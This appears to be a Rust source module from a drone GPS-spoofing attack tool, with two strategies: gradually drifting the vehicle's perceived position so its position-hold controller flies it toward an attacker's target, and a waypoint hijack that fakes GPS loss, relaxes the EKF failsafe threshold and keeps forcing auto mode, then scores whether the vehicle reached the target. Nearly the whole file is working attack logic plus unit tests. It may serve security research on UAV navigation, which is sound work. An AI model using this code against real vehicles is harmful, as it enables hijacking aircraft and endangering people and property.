//! The two spoofing strategies.
//!
//! Both run as a cancellable background task owned by the
//! [`AttackController`](super::AttackController). Cancellation is
//! cooperative: the loops check the token at every iteration boundary and
//! select against it while sleeping, so `stop` is observed within one
//! poll interval. In-flight vehicle calls are never interrupted.

use std::sync::{Arc, Mutex};

use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use crate::config::AttackConfig;
use crate::error::AttackError;
use crate::fix::{send_negotiated, SyntheticFixBuilder};
use crate::geo;
use crate::vehicle::{FlightMode, GlobalPosition, SharedVehicle};

use super::injector::GlitchInjector;
use super::{AttackMetrics, AttackPhase};

/// Everything a strategy task needs.
pub(crate) struct StrategyContext {
    pub vehicle: SharedVehicle,
    pub injector: GlitchInjector,
    pub metrics: Arc<Mutex<AttackMetrics>>,
    pub cancel: CancellationToken,
    pub config: AttackConfig,
}

impl StrategyContext {
    fn update<F: FnOnce(&mut AttackMetrics)>(&self, f: F) {
        // Held only for the closure; never across an await point.
        f(&mut self.metrics.lock().expect("metrics mutex poisoned"));
    }

    fn set_phase(&self, phase: AttackPhase) {
        self.update(|m| m.phase = phase);
    }
}

// ============================================================================
// Pure Vector Math
// ============================================================================

/// Per-step drift increment: `-delta / steps` on each axis, so the
/// cumulative glitch after `steps` iterations equals the full negated
/// angular delta.
#[must_use]
pub fn drift_step(delta_lat: f64, delta_lon: f64, steps: u32) -> (f64, f64) {
    let n = f64::from(steps);
    (-delta_lat / n, -delta_lon / n)
}

/// Deceptive position for the waypoint hijack:
/// `fake = P_waypoint + k * (target - P_init)`.
///
/// With `k = 0` the fake position collapses onto the waypoint itself,
/// independent of target and current position.
#[must_use]
pub fn hijack_point(
    wp_lat: f64,
    wp_lon: f64,
    target_lat: f64,
    target_lon: f64,
    init_lat: f64,
    init_lon: f64,
    k: f64,
) -> (f64, f64) {
    (
        k.mul_add(target_lat - init_lat, wp_lat),
        k.mul_add(target_lon - init_lon, wp_lon),
    )
}

// ============================================================================
// Shared Steps
// ============================================================================

/// Injects a hard "GPS lost" fix (no fix type, zero satellites) to force
/// degraded-GPS behavior. Position readings are taken best-effort; a
/// failed read is sanitized to defaults rather than aborting the jam.
async fn inject_gps_loss(ctx: &StrategyContext) -> Result<(), AttackError> {
    let loc = ctx.vehicle.global_position().await.ok();
    let fix = SyntheticFixBuilder::gps_lost()
        .position(loc.map(|l| l.lat), loc.map(|l| l.lon))
        .altitude(loc.map(|l| l.alt))
        .build();
    let layout = send_negotiated(ctx.vehicle.as_ref(), fix).await?;
    debug!(?layout, "GPS-loss fix injected");
    Ok(())
}

// ============================================================================
// Strategy A: Position-Hold Drift
// ============================================================================

/// Walks the perceived position away from truth in `steps` increments so
/// the position-hold controller physically flies toward the real target.
///
/// Exits early when cancelled or when the vehicle leaves position-hold
/// (someone else took control). The glitch is cleared on every exit path;
/// the controller clears it once more defensively on `stop`.
pub(crate) async fn run_position_drift(
    ctx: &StrategyContext,
    north_m: f64,
    east_m: f64,
    steps: u32,
) -> Result<(), AttackError> {
    ctx.set_phase(AttackPhase::Jamming);
    ctx.injector.clear_glitch().await?;
    inject_gps_loss(ctx).await?;
    ctx.vehicle.set_mode(FlightMode::PositionHold).await?;

    ctx.set_phase(AttackPhase::Calculating);
    let (delta_lat, delta_lon) = geo::meters_to_degrees(north_m, east_m);
    let (step_n, step_e) = drift_step(delta_lat, delta_lon, steps);
    info!(step_n, step_e, steps, "drift increments computed");

    ctx.set_phase(AttackPhase::Hijacking);
    let result = drift_loop(ctx, step_n, step_e, steps).await;

    if let Err(e) = ctx.injector.clear_glitch().await {
        warn!("failed to clear glitch after drift loop: {e}");
    }
    result
}

async fn drift_loop(
    ctx: &StrategyContext,
    step_n: f64,
    step_e: f64,
    steps: u32,
) -> Result<(), AttackError> {
    let mut glitch_n = 0.0;
    let mut glitch_e = 0.0;

    for i in 0..steps {
        if ctx.cancel.is_cancelled() {
            debug!("drift loop cancelled");
            break;
        }
        if ctx.vehicle.mode().await? != FlightMode::PositionHold {
            info!("vehicle left position hold, aborting drift");
            break;
        }

        glitch_n += step_n;
        glitch_e += step_e;
        ctx.injector.set_glitch(glitch_n, glitch_e).await?;

        let moved = geo::offset_magnitude_m(glitch_n, glitch_e);
        ctx.update(|m| m.distance_moved_m = (moved * 100.0).round() / 100.0);

        if (i + 1) % 50 == 0 {
            debug!(step = i + 1, steps, "drift progress");
        }

        tokio::select! {
            () = ctx.cancel.cancelled() => break,
            () = tokio::time::sleep(ctx.config.drift_step_interval()) => {}
        }
    }

    debug!("exiting drift loop");
    Ok(())
}

// ============================================================================
// Strategy B: Waypoint Hijack
// ============================================================================

/// One-shot static deception: re-maps which real-world point the active
/// waypoint resolves to, then keeps the vehicle in automatic mode so the
/// deception persists.
///
/// `target_lat`/`target_lon` are the operator's offsets reinterpreted as
/// an absolute target coordinate; `k` is the gain factor.
pub(crate) async fn run_waypoint_hijack(
    ctx: &StrategyContext,
    target_lat: f64,
    target_lon: f64,
    k: f64,
) -> Result<(), AttackError> {
    let origin = ctx.vehicle.global_position().await?;

    ctx.set_phase(AttackPhase::Jamming);
    inject_gps_loss(ctx).await?;
    ctx.injector.clear_glitch().await?;
    ctx.injector
        .relax_ekf_failsafe(ctx.config.ekf_failsafe_threshold)
        .await?;
    ctx.injector.select_internal_gps().await?;

    ctx.set_phase(AttackPhase::Calculating);
    let waypoint = ctx
        .vehicle
        .current_waypoint()
        .await?
        .ok_or(AttackError::NoActiveWaypoint)?;
    let p_init = ctx.vehicle.global_position().await?;

    let (fake_lat, fake_lon) = hijack_point(
        waypoint.lat,
        waypoint.lon,
        target_lat,
        target_lon,
        p_init.lat,
        p_init.lon,
        k,
    );
    // The vehicle must believe it is at `fake` while actually at `p_init`:
    // reported = true + glitch, so glitch = fake - true.
    let glitch_n = fake_lat - p_init.lat;
    let glitch_e = fake_lon - p_init.lon;

    info!(glitch_n, glitch_e, waypoint_seq = waypoint.seq, "injecting static glitch");
    ctx.injector.set_glitch(glitch_n, glitch_e).await?;
    ctx.update(|m| m.spoofed_distance_m = geo::offset_magnitude_m(glitch_n, glitch_e));

    ctx.set_phase(AttackPhase::Hijacking);
    // The glitch is live from here; every exit below must reach the
    // rollback, including a rejected mode switch.
    let result = async {
        ctx.vehicle.set_mode(FlightMode::Auto).await?;
        monitor_loop(ctx, origin).await
    }
    .await;
    rollback_hijack(ctx, target_lat, target_lon).await;
    result
}

async fn monitor_loop(ctx: &StrategyContext, origin: GlobalPosition) -> Result<(), AttackError> {
    loop {
        if ctx.cancel.is_cancelled() {
            debug!("hijack monitor cancelled");
            return Ok(());
        }

        let real = ctx.vehicle.global_position().await?;
        let dist = geo::flat_distance_m(origin.lat, origin.lon, real.lat, real.lon);
        ctx.update(|m| m.distance_moved_m = (dist * 100.0).round() / 100.0);

        // Keep the vehicle flying toward the (re-mapped) waypoint.
        if ctx.vehicle.mode().await? != FlightMode::Auto {
            info!("re-asserting automatic mode");
            ctx.vehicle.set_mode(FlightMode::Auto).await?;
        }

        tokio::select! {
            () = ctx.cancel.cancelled() => return Ok(()),
            () = tokio::time::sleep(ctx.config.monitor_interval()) => {}
        }
    }
}

/// Rollback on every hijack exit path: record whether the vehicle ended
/// up within the success radius of the absolute target, zero the glitch,
/// and hand control back to position-hold. All best-effort; `stop`
/// clears the glitch once more defensively.
async fn rollback_hijack(ctx: &StrategyContext, target_lat: f64, target_lon: f64) {
    if let Ok(final_pos) = ctx.vehicle.global_position().await {
        let remaining =
            geo::haversine_distance_m(final_pos.lat, final_pos.lon, target_lat, target_lon);
        let success = remaining < ctx.config.success_radius_m;
        info!(remaining_m = remaining, success, "hijack outcome");
        ctx.update(|m| m.deception_success = Some(success));
    }

    if let Err(e) = ctx.injector.clear_glitch().await {
        warn!("failed to clear glitch after hijack: {e}");
    }
    if let Err(e) = ctx.vehicle.set_mode(FlightMode::PositionHold).await {
        warn!("failed to return vehicle to position hold: {e}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn drift_steps_sum_to_negated_delta() {
        for steps in [1_u32, 2, 50, 300, 7] {
            let (delta_lat, delta_lon) = geo::meters_to_degrees(5.0, -3.0);
            let (step_n, step_e) = drift_step(delta_lat, delta_lon, steps);
            let total_n = step_n * f64::from(steps);
            let total_e = step_e * f64::from(steps);
            assert!((total_n + delta_lat).abs() < 1e-12, "steps={steps}");
            assert!((total_e + delta_lon).abs() < 1e-12, "steps={steps}");
        }
    }

    #[test]
    fn hijack_point_with_zero_gain_is_waypoint() {
        let (lat, lon) = hijack_point(1.0, 1.0, 10.0, 10.0, 0.9999, 0.9999, 0.0);
        assert_eq!(lat, 1.0);
        assert_eq!(lon, 1.0);

        // Independent of target and init.
        let (lat, lon) = hijack_point(1.0, 1.0, -45.0, 170.0, 33.3, -44.4, 0.0);
        assert_eq!(lat, 1.0);
        assert_eq!(lon, 1.0);
    }

    #[test]
    fn hijack_point_matches_gain_formula() {
        // fake = waypoint + k * (target - init)
        let (lat, lon) = hijack_point(1.0, 1.0, 10.0, 10.0, 0.9999, 0.9999, -2.5);
        let expected = (-2.5_f64).mul_add(10.0 - 0.9999, 1.0);
        assert!((lat - expected).abs() < 1e-12);
        assert!((lon - expected).abs() < 1e-12);
    }

    #[test]
    fn drift_step_direction_is_negated() {
        let (step_n, step_e) = drift_step(0.01, -0.02, 10);
        assert!(step_n < 0.0);
        assert!(step_e > 0.0);
    }
}
